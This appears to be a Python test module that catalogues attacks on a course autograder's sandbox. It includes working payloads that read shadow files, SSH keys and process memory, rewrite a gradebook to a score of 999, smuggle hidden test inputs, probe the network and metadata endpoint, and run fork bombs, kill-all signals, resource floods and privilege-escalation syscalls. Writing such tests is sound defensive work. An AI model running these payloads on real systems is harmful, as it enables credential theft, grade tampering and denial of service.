"""Attacks on the machine: reading, writing, the network, processes, using things up, the next candidate, crashes."""

from __future__ import annotations

import textwrap
from typing import Any

from tests.grading.attacks.lab import CANARY, HONEST, Attack, add, added
from tests.grading.attacks.machinery import FIRST, before, instead

READING, WRITING, NETWORK = "reading tests and other people's work", "writing anywhere", "network"
PROCESSES, FLOODS, NEXT, ENDINGS = ("processes", "memory, disk and output floods", "the zygote and the next candidate",
                                    "exits and crashes")


def _loud_cells(notebook: Any) -> None:
    for _ in range(6):
        add(notebook, "flip", "from IPython.display import display\nfor _ in range(9):\n"
                              "    display({'text/plain': 'FLOOD' * 220_000}, raw=True)")


def smuggled(keep: str, recall: str, setup: str = "") -> dict[str, str | None]:
    """`double` is right and keeps the hidden input; `norm` shows what was kept in an error of a visible check."""
    def body(text: str) -> str:
        return textwrap.indent(textwrap.dedent(text).strip(), "        ")
    return {
        "double": f"{setup}\ndef double(x):\n    try:\n        x.shape[1]\n{body(keep)}\n    except Exception: pass\n"
                  "    return 2 * x",
        "norm": f"def norm(x):\n    try:\n{body(recall)}\n    except Exception as e:\n        kept = repr(e)\n"
                "    raise ValueError(f'KEPT {kept}')",
    }


def smuggling(name: str, keep: str, recall: str, setup: str = "") -> Attack:
    return Attack(f"a hidden input smuggled {name}", READING, smuggled(keep, recall, setup), costs=("norm",))


CASES = [
    # Reading

    Attack("files of the course, of its users and of the machine", READING, {}, added("flip", """
import glob, os, pathlib
for place in ("@CLASS@/.course_seed", "@CLASS@/submitted/alice/90_attacked/90_attacked.ipynb",
              "@CLASS@/results/90_attacked/alice.json", "@CHECKOUT@/solutions/90_attacked/90_attacked.py",
              "@REPOSITORY@/solutions/02_backprop/02_backprop.py", "@REPOSITORY@/course_staff/grading/examine.py",
              "@REPOSITORY@/.git/config", "/etc/shadow", "/etc/hostname", "/root/.ssh/id_rsa", "../../.course_seed",
              "/proc/1/environ", "/proc/1/cmdline", "/proc/self/environ", "/proc/mounts"):
    try:
        text = open(place, errors="replace").read()
        if place.endswith(("examine.py", "02_backprop.py", "config", "shadow", "id_rsa")): print("REACHED", place)
        print(text if "mounts" not in place else "")
    except OSError as error:
        pass
print(glob.glob("@CLASS@/**", recursive=True), dict(os.environ))
"""), unseen=(CANARY, "REACHED", "COURSE_SEED")),
    Attack("frames, objects and modules of the test", READING, {"double": """
import gc, inspect, sys
def double(x):
    found = [str(frame.frame.f_locals)[:2000] for frame in inspect.stack()]
    found += [o for o in gc.get_objects() if isinstance(o, str) and "HIDDEN TESTS" in o]
    found += [name for name in sys.modules if name.startswith("course_staff")]
    if x.ndim == 1: raise ValueError(" ".join(name for name in sys.modules if name.startswith("course_staff")))
    return 2 * x
"""}, costs=FIRST, unseen=(CANARY, "course_staff.grading.examine", "course_staff.grading.job")),
    Attack("the memory of the parent and of every process", READING, {}, added("flip", """
import ctypes, os, re
libc = ctypes.CDLL(None, use_errno=True)
for pid in [os.getppid(), *(int(p) for p in os.listdir("/proc") if p.isdigit())]:
    if pid == os.getpid(): continue
    print("PTRACE", pid, libc.ptrace(16, pid, 0, 0))
    try:
        memory = open(f"/proc/{pid}/mem", "rb")
        for line in open(f"/proc/{pid}/maps"):
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(start)
            if ("CANARY" + "-6b1f").encode() in memory.read(end - start): print("REACHED", pid)
    except (OSError, ValueError, OverflowError) as error:
        print(type(error).__name__)
"""), unseen=("REACHED", "PTRACE 1 0")),
    smuggling("in a file", "open('/tmp/kept', 'w').write(str(x.tolist()))", "kept = open('/tmp/kept').read()"),
    smuggling("in shared memory", "shared[:200] = str(x.tolist()).encode().ljust(200)[:200]", "kept = shared[:200]",
              "import mmap\nshared = mmap.mmap(-1, 4096)"),
    smuggling("in a segment of System V", """
        import ctypes; libc = ctypes.CDLL(None); libc.shmat.restype = ctypes.c_void_p
        place = libc.shmat(libc.shmget(77, 4096, 0o1666), None, 0)
        ctypes.memmove(ctypes.c_void_p(place), str(x.tolist()).encode(), 100)
        """, """
        import ctypes; libc = ctypes.CDLL(None); libc.shmat.restype = ctypes.c_void_p
        kept = ctypes.string_at(libc.shmat(libc.shmget(77, 4096, 0), None, 0), 200)
        """),
    smuggling("through the name of a process", """
        import os, time
        if not os.fork():
            os.setsid()
            open('/proc/self/comm', 'w').write(str(x.flat[0])[:15]); time.sleep(60)
        """, "import glob; kept = [open(p).read() for p in glob.glob('/proc/*/comm')]"),
    smuggling("through a server that listens",
              "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0kept'); "
              "s.sendall(b'K' + str(x.tolist()).encode()); s.close()",
              "import socket; s = socket.socket(socket.AF_UNIX); s.settimeout(1); s.connect('\\0kept'); "
              "s.sendall(b'?'); kept = s.recv(4096)", """
import os, socket
server = socket.socket(socket.AF_UNIX); server.bind('\\0kept'); server.listen()
if not os.fork():
    kept = b""
    while True:
        other, _ = server.accept()
        said = other.recv(4096)
        if said[:1] == b"K": kept = said
        else: other.sendall(kept)
"""),
    smuggling("in a pipe", "os.write(pipe[1], str(x.tolist()).encode())", "kept = os.read(pipe[0], 4096)",
              "import os\npipe = os.pipe(); os.set_blocking(pipe[0], False)"),
    smuggling("in the memory of a copy", """
        import ctypes, os
        libc = ctypes.CDLL(None)
        place = ctypes.addressof(box)
        for pid in (int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) > 2):
            if pid != os.getpid():
                with open(f'/proc/{pid}/mem', 'r+b', 0) as memory:
                    memory.seek(place); memory.write(str(x.tolist()).encode()[:200])
        """, "kept = box.value", "import ctypes\nbox = ctypes.create_string_buffer(400)"),
    smuggling("in a keyring", """
        import ctypes; libc = ctypes.CDLL(None)
        text = str(x.tolist()).encode(); libc.syscall(248, b'user', b'kept', text, len(text), -4)
        """, """
        import ctypes; libc = ctypes.CDLL(None); box = ctypes.create_string_buffer(400)
        libc.syscall(250, 11, libc.syscall(250, 10, -4, b'user', b'kept', 0), box, 400); kept = box.value
        """),
    smuggling("in limits and priorities", """
        import os, signal
        os.kill(os.getppid(), 0); open(f'/proc/{os.getppid()}/comm', 'w').write(str(x.flat[0])[:15])
        """, "import os; kept = open(f'/proc/{os.getppid()}/comm').read()"),

    # Writing

    Attack("files planted everywhere", WRITING, before("""
        import os, pathlib, sys, site
        import course_utils, numpy
        places = ["/", "/etc", "/usr/lib", "/var/tmp", "/var/spool/cron", "/root", "/home", "/dev", "/dev/shm", "/run",
                  "@CLASS@", "@CLASS@/results", "@CLASS@/submitted/alice", "@CHECKOUT@/labs", "@REPOSITORY@",
                  "@REPOSITORY@/solutions", sys.prefix, *site.getsitepackages(), os.path.dirname(numpy.__file__),
                  os.path.dirname(course_utils.__file__), "/course", "/course/data", str(pathlib.Path.home()), "/tmp",
                  "/proc/1/root/tmp", "/proc/1/cwd"]
        for place in places:
            for write in (lambda: os.makedirs(place, exist_ok=True), lambda: open(place + "/planted", "w").write("x"),
                          lambda: os.symlink("/etc/passwd", place + "/planted-link"), lambda: os.chmod(place, 0o777),
                          lambda: os.mkfifo(place + "/planted-pipe"), lambda: os.rename(place, place + "-planted")):
                try: write()
                except OSError: pass
        """), costs=FIRST),
    Attack("files of the grader changed", WRITING, before("""
        import os, sqlite3, subprocess
        for path in ("@CLASS@/gradebook.db", "/course/gradebook.db", "../gradebook.db", "../../../gradebook.db"):
            try:
                book = sqlite3.connect(path)
                book.execute("update grade set manual_score = 999")
                book.commit()
            except sqlite3.Error: pass
        for path in ("@CLASS@/.course_seed", "@CLASS@/results/90_attacked/alice.json",
                     "@CHECKOUT@/labs/90_attacked/90_attacked.ipynb",
                     "@CHECKOUT@/solutions/90_attacked/90_attacked.py"):
            try: open(path, "a").write("planted")
            except OSError: pass
            try: os.unlink(path)
            except OSError: pass
        """), costs=FIRST),
    Attack("packages installed", WRITING, before("""
        import subprocess, sys
        %pip install --no-input planted-package
        subprocess.run([sys.executable, "-m", "pip", "uninstall", "-y", "numpy"], capture_output=True)
        """), costs=FIRST, stock=False),

    # Network

    Attack("the network, by TCP, UDP, name and raw", NETWORK, {}, added("flip", """
import socket
def attempt(what, action):
    try:
        action(); print("REACHED", what)
    except OSError as error:
        print(type(error).__name__)
attempt("host", lambda: socket.create_connection(("127.0.0.1", int("@PORT@")), 1).sendall(b"planted"))
attempt("the world", lambda: socket.create_connection(("192.0.2.1", 80), 1))
attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), 1))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"planted", ("192.0.2.1", 53)))
attempt("udp on the host", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"p", ("127.0.0.1", 9)))
attempt("IPv6", lambda: socket.create_connection(("::1", int("@PORT@")), 1))
attempt("a name", lambda: socket.getaddrinfo("example.org", 80))
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("packets", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("abstract", lambda: socket.socket(socket.AF_UNIX).connect("\\0@ABSTRACT@"))
attempt("vsock", lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((2, 1)))
attempt("bus", lambda: socket.socket(socket.AF_UNIX).connect("/run/dbus/system_bus_socket"))
attempt("docker", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"))
"""), unseen=("REACHED",)),
    Attack("the network brought up", NETWORK, {}, added("flip", """
import ctypes, fcntl, socket, struct
libc = ctypes.CDLL(None)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    try:
        fcntl.ioctl(s, 0x8914, struct.pack("16sh", b"lo", 0x41)); print("REACHED up")
    except OSError: pass
for path in ("/proc/1/ns/net", "/proc/self/ns/net"):
    try:
        with open(path) as f:
            if libc.setns(f.fileno(), 0) == 0: print("REACHED", path)
    except OSError: pass
"""), unseen=("REACHED",)),

    # Processes

    Attack("a process that detaches twice and ignores signals", PROCESSES, before("""
        import os, signal, time
        if not os.fork():
            os.setsid()
            if not os.fork():
                for number in range(1, 65):
                    try: signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError): pass
                while True:
                    time.sleep(0.05)
                    for place in ("/tmp", "/dev/shm", "/var/tmp"):
                        try: open(place + "/planted", "w").write("x")
                        except OSError: pass
            os._exit(0)
        """), costs=FIRST, stock=False),
    Attack("a fork bomb in a cell", PROCESSES, before("""
        import os
        parent = os.getpid()
        for _ in range(2000):
            try:
                if not os.fork():
                    while True:
                        try: os.fork()
                        except OSError: pass
            except OSError:
                break
        """), costs=FIRST, stock=False),
    Attack("a fork bomb in an answer", PROCESSES, instead("""
        import os
        while True:
            try: os.fork()
            except OSError: pass
        """), costs=FIRST, stock=False),
    Attack("forty processes left behind", PROCESSES, {}, added("double", """
import subprocess
left = [subprocess.Popen(["sleep", "600"]) for _ in range(40)]
"""), flagged="A cell left 40 processes running", stock=False),
    Attack("threads without number", PROCESSES, before("""
        import threading, time
        try:
            while True: threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            pass
        """), costs=FIRST, stock=False),
    Attack("kill -9 of everybody", PROCESSES, instead("import os, signal\nos.kill(-1, signal.SIGKILL)"), costs=FIRST,
           stock=False),
    Attack("kill -9 of everybody in a cell", PROCESSES, before("import os, signal\nos.kill(-1, signal.SIGKILL)"),
           costs=FIRST, stock=False),
    Attack("everybody stopped", PROCESSES, instead("import os, signal\nos.kill(-1, signal.SIGSTOP)"), costs=FIRST,
           stock=False),
    Attack("itself stopped", PROCESSES,
           instead("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"), costs=FIRST),
    Attack("itself stopped in a cell", PROCESSES, before("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
           costs=FIRST, flagged="ended"),
    Attack("alarms, and every signal ignored", PROCESSES, instead("""
        import signal
        for number in range(1, 65):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        signal.signal(signal.SIGALRM, lambda *a: None)
        signal.setitimer(signal.ITIMER_REAL, 0.01, 0.01)
        while True:
            try:
                while True: pass
            except BaseException: pass
        """), costs=FIRST),
    Attack("a socket shared by several processes", PROCESSES, instead("""
        import os
        for _ in range(5):
            if not os.fork(): return x
        return x
        """), costs=FIRST, stock=False),

    # Floods

    Attack("more memory than there is", FLOODS, instead("return [bytearray(2**28) for _ in range(100)]"), costs=FIRST),
    Attack("memory of many processes", FLOODS, instead("""
        import os, time
        for _ in range(12):
            if not os.fork():
                kept = b'1' * 2**29; time.sleep(60)
        time.sleep(60)
        """), costs=FIRST, stock=False),
    Attack("memory in /dev/shm and in memfd", FLOODS, instead("""
        import os
        kept = [os.memfd_create(str(n)) for n in range(200)]
        for descriptor in kept:
            try:
                for _ in range(127): os.write(descriptor, b'1' * 2**20)
            except OSError: pass
        return x
        """), costs=FIRST, stock=False),
    Attack("a full disk and no inode left", FLOODS, before("""
        for folder in ("/tmp", "/dev/shm"):
            try:
                for number in range(10**5): open(f"{folder}/planted{number}", "wb").write(b"1" * 2**20 * (number < 300))
            except OSError: pass
            try:
                for number in range(10**5): open(f"{folder}/empty{number}", "wb")
            except OSError: pass
        """), costs=FIRST, stock=False),
    Attack("print without end", FLOODS, before("while True: print('FLOOD ' * 1000)"), costs=FIRST, flagged="ended",
           stock=False),
    Attack("print without end, past the streams", FLOODS, before("""
        import os, sys
        for _ in range(20000):
            os.write(1, b"FLOOD " * 1000); os.write(2, b"FLOOD " * 1000)
        """), costs=FIRST, unseen=("FLOOD",)),
    Attack("a display of every kind, many times", FLOODS, before("""
        from IPython.display import display
        for _ in range(200):
            display({"text/plain": "FLOOD" * 200_000, "text/html": "<b>" * 300_000, "image/png": "A" * 900_000},
                    raw=True)
        """), costs=FIRST),
    Attack("a text for each object that never ends", FLOODS, before("""
        class Endless:
            def __repr__(self):
                while True: pass
        """, "def double(x):\n    return Endless()") | {
               "norm": "class Long:\n    def __repr__(self): return 'FLOOD' * 10**7\n"
                       "def norm(x): return Long()\nLong()"}, costs=("double", "norm")),
    Attack("many cells of ten megabytes of output", FLOODS, {}, _loud_cells,
           flagged="output", stock=False),
    Attack("processor time of many processes", FLOODS, instead("""
        import os
        for _ in range(40):
            if not os.fork():
                while True: pass
        while True: pass
        """), costs=FIRST, stock=False),

    # The next one

    Attack("the zygote and its init signalled and traced", NEXT, before("""
        import ctypes, os, signal
        libc = ctypes.CDLL(None)
        for pid in (1, os.getppid(), 0):
            for number in (signal.SIGTERM, signal.SIGINT, signal.SIGUSR1, signal.SIGHUP):
                if pid: os.kill(pid, number) if pid == 1 else None
        for call in (lambda: libc.unshare(0x10000000), lambda: libc.unshare(0x00020000),
                     lambda: libc.mount(b"none", b"/", None, 0x4000 | 0x100000, None), lambda: libc.chroot(b"/tmp"),
                     lambda: libc.umount2(b"/proc", 2), lambda: libc.pivot_root(b"/tmp", b"/tmp"),
                     lambda: libc.reboot(0x01234567), lambda: libc.swapoff(b"/dev/sda"),
                     lambda: libc.sethostname(b"planted", 7), lambda: libc.setuid(0), lambda: libc.setgid(0)):
            if call() == 0: print("REACHED")
        """), costs=FIRST, unseen=("REACHED",), stock=False),
    Attack("things left for the next", NEXT, before("""
        import builtins, ctypes, os, pathlib, socket
        libc = ctypes.CDLL(None)
        libc.shmget(4242, 4096, 0o1666); libc.msgget(4242, 0o1666); libc.semget(4242, 1, 0o1666)
        libc.syscall(248, b"user", b"planted", b"planted", 7, -3); libc.syscall(248, b"user", b"planted", b"x", 1, -4)
        libc.syscall(248, b"user", b"planted", b"planted", 7, -5)
        for folder in ("/tmp", "/tmp/home", "/dev/shm"): pathlib.Path(folder, "planted").write_text("planted")
        builtins.planted = torch.planted = np.planted = True
        os.environ["PLANTED"] = "1"; os.umask(0); os.nice(5)
        left = socket.socket(socket.AF_UNIX); left.bind("\\0planted"); left.listen()
        left = socket.socket(); left.bind(("127.0.0.1", 47113)); left.listen()
        """, HONEST["double"]), stock=False),
    Attack("what the last one left", NEXT, {}, added("flip", """
import builtins, ctypes, os, socket
libc = ctypes.CDLL(None)
found = [libc.shmget(4242, 4096, 0), libc.msgget(4242, 0), libc.semget(4242, 1, 0)]
found += [libc.syscall(250, 10, ring, b"user", b"planted", 0) for ring in (-3, -4, -5)]
if any(n != -1 for n in found): print("REACHED", found)
for folder in ("/tmp", "/tmp/home", "/dev/shm", "."):
    if "planted" in os.listdir(folder): print("REACHED", folder)
if any(hasattr(o, "planted") for o in (builtins, torch, np)) or "PLANTED" in os.environ: print("REACHED memory")
if os.umask(0o22) != 0o22 or os.nice(0) != 0: print("REACHED state")
for address in ("\\0planted", ("127.0.0.1", 47113)):
    try:
        socket.socket(socket.AF_UNIX if isinstance(address, str) else socket.AF_INET).connect(address); print("REACHED")
    except OSError: pass
open_ones = [f"/proc/self/fd/{n}" for n in os.listdir("/proc/self/fd")]
print([os.readlink(path) for path in open_ones if os.path.lexists(path)])  # not the one that listed them
"""), unseen=("REACHED", "pipe:"), stock=False),
    Attack("descriptors searched and written to", NEXT, before("""
        import os
        for number in range(3, 1024):
            try: os.write(number, b"\\xff" * 4)
            except OSError: pass
        """), costs=FIRST, flagged="ended", stock=False),
    Attack("limits, niceness and oom score", NEXT, before("""
        import os, resource
        for path, text in (("/proc/self/oom_score_adj", "-1000"), ("/proc/sys/kernel/core_pattern", "|/planted"),
                           ("/proc/sys/vm/drop_caches", "3"), ("/proc/sysrq-trigger", "b"),
                           ("/proc/sys/user/max_user_namespaces", "99"), ("/proc/1/oom_score_adj", "1000"),
                           ("/proc/sys/kernel/ns_last_pid", "100"), ("/sys/fs/cgroup/cgroup.procs", "0")):
            try:
                with open(path, "w") as file: file.write(text)
                print("REACHED", path)
            except OSError: pass
        for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_DATA, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
            try: resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY)); print("REACHED", kind)
            except (OSError, ValueError): pass
        """), costs=FIRST, unseen=("REACHED",), stock=False),

    # Endings

    Attack("sys.exit in a cell and in an answer", ENDINGS,
           before("import sys\n", "def double(x): sys.exit(0)") | {"norm": HONEST["norm"] + "\nsys.exit(0)"},
           costs=FIRST),
    Attack("os._exit(0) in a cell", ENDINGS, before("import os\nos._exit(0)"), costs=FIRST, flagged="ended"),
    Attack("os._exit(0) in an answer", ENDINGS, instead("import os\nos._exit(0)"), costs=FIRST, flagged="ended"),
    Attack("a segmentation fault", ENDINGS,
           instead("import ctypes\nctypes.string_at(0)"), costs=FIRST, flagged="ended"),
    Attack("recursion without end", ENDINGS, instead("return double(x)"), costs=FIRST),
    Attack("recursion without a limit", ENDINGS,
           instead("import sys\nsys.setrecursionlimit(10**9)\nf = lambda n: [n].sort(key=f)\nf(0)"), costs=FIRST),
    Attack("exceptions that are no Exception", ENDINGS,
           {"double": "def double(x): raise KeyboardInterrupt", "norm": "def norm(x): raise GeneratorExit",
            "slope": "class Own(BaseException): pass\ndef slope(f, x): raise Own('x')",
            "softmax": "def softmax(x): raise StopIteration(x)"}, costs=("double", "norm", "slope", "softmax")),
    Attack("the socket closed", ENDINGS, before("""
        import os
        os.closerange(3, 1024)
        """), costs=FIRST, flagged="ended", stock=False),
    Attack("atexit, del and the kernel shut down", ENDINGS, before("""
        import atexit, os
        atexit.register(lambda: os._exit(0))
        class Late:
            def __del__(self): os.kill(os.getpid(), 11)
        late = Late()
        exit()
        quit()
        try: get_ipython().kernel.do_shutdown(False)
        except AttributeError: pass
        """), costs=FIRST),
    Attack("an endless loop in an answer", ENDINGS, instead("while True: pass"), costs=FIRST),
    Attack("an endless loop in a cell", ENDINGS, before("while True: pass"), costs=FIRST, flagged="ended"),
    Attack("an endless loop that cannot be interrupted", ENDINGS, instead("return 10 ** 10 ** 10"), costs=FIRST),
]
